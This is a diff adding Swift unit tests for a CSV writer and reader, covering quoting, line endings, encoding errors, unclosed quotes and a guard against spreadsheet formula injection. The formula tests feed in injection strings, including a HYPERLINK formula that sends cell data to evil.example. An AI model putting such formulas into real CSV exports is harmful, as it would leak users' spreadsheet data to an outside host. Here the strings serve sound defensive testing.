@@ -1,0 +1,68 @@
+import Testing
+
+@testable import FileFormats
+
+@Suite("CSV")
+struct CSVTests {
+    private func text(_ records: [[String]]) -> String {
+        var output: [UInt8] = []
+        for record in records { CSVWriter.append(record, to: &output) }
+        return String(decoding: output, as: UTF8.self)
+    }
+
+    @Test(
+        "Fields are quoted only if they contain a separator, a quotation mark or a line break",
+        arguments: [
+            (["a", "", "b c"], "a,,b c\r\n"), (["a,b"], "\"a,b\"\r\n"), (["say \"x\""], "\"say \"\"x\"\"\"\r\n"),
+            (["a\nb", "c\rd"], "\"a\nb\",\"c\rd\"\r\n"), ([], "\r\n"),
+        ])
+    func quoting(record: [String], expected: String) {
+        #expect(text([record]) == expected)
+    }
+
+    @Test(
+        "No field is a formula for a spreadsheet, and each is read back unchanged",
+        arguments: [
+            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+            "＝1", "＋1", "－1", "＠x", "-", "'=1", "''=1", "'tis", "''", "'", "a=1", "", "０", "é", "1-1",
+            "=\u{301}1", "'\u{301}", "\u{FF}", "﹢1", "\u{EF}\u{BC}",
+        ])
+    func formulas(field: String) throws {
+        let output = Array(text([["a", field]]).utf8)
+        let read = try #require(try CSVReader.records(output).first?.last)
+        #expect(read.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true)
+        #expect(Array(FormulaGuard.removed(from: read).utf8) == Array(field.utf8))
+    }
+
+    @Test("Only the apostrophe of a guard is removed", arguments: ["'tis", "'", "''", "'a=1", "x'=1"])
+    func apostrophes(field: String) {
+        #expect(FormulaGuard.removed(from: field) == field)
+    }
+
+    @Test(
+        "Records are read with either line ending and with a byte order mark",
+        arguments: [
+            ("a,b\r\nc,d\r\n", [["a", "b"], ["c", "d"]]), ("a,b\nc,d", [["a", "b"], ["c", "d"]]),
+            ("\u{FEFF}\"x, \"\"y\"\"\nz\",\n", [["x, \"y\"\nz", ""]]), ("a \" mark,b", [["a \" mark", "b"]]),
+            ("\n\n", [[""], [""]]), ("", []), ("a,", [["a", ""]]), ("\"a\"b,c", [["ab", "c"]]), ("\"\"", [[""]]),
+        ])
+    func reading(text: String, expected: [[String]]) throws {
+        #expect(try CSVReader.records(Array(text.utf8)) == expected)
+    }
+
+    @Test("A byte that is not UTF-8 damages only its own field")
+    func encoding() throws {
+        #expect(try CSVReader.records([0x61, 0xE2, 0x82, 0x2C, 0x62]) == [["a\u{FFFD}", "b"]])
+    }
+
+    @Test("A table that ends within quotation marks is refused", arguments: ["a,\"b", "\"", "a,\"he said \"\"yes\"\""])
+    func truncated(text: String) {
+        #expect(throws: FileFormatError.unclosedQuotationMark) { try CSVReader.records(Array(text.utf8)) }
+    }
+
+    @Test("Time grows with the size only", .timeLimit(.minutes(1)), arguments: [",", "\n", "\"\"", "\"a\",", "a"])
+    func size(piece: String) throws {
+        let text = Array(repeatElement(Array(piece.utf8), count: (1 << 20) / piece.utf8.count).joined())
+        #expect(throws: Never.self) { try CSVReader.records(text) }
+    }
+}
